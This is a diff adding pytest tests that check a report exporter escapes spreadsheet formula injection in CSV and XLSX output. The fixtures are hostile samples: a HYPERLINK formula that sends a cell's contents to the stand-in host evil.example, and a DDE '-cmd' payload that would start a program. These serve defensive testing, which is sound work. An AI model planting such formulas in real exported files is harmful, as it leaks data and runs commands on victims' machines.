@@ -154,3 +154,37 @@ def test_file_names_are_ascii():
     assert (
         exports.safe_name("Kreis Warendorf · 1. Halbjahr 2026") == "kreis-warendorf-1-halbjahr-2026"
     )
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bericht öffnen")'
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+49 2581 1234", "'+49 2581 1234"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("-3", "-3"),  # a number written as text stays a number
+        ("+1,5", "+1,5"),
+        ("< 5", "< 5"),
+        ("Kreis Warendorf", "Kreis Warendorf"),
+        (42, 42),
+    ],
+)
+def test_spreadsheet_text_keeps_formulas_from_running(value, shown):
+    assert exports.spreadsheet_text(value) == shown
+
+
+def test_an_organisation_named_like_a_formula_is_text_in_csv_and_xlsx(report):
+    """An administrator can name an organisation "=HYPERLINK(…)"; the scope's name is written
+    into every file: it must stay text, never a formula a spreadsheet runs (OWASP)."""
+    report.scope = Scope(ScopeKind.ORGANISATION, 7, FORMULA)
+    lines = exports.to_csv(report, report.tables[0]).decode("utf-8-sig").split("\r\n")
+    assert lines[1].startswith("\"'=HYPERLINK(") or lines[1].startswith("'=HYPERLINK(")
+    book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert book["Deckblatt"]["B2"].value == FORMULA  # shown as typed, as text
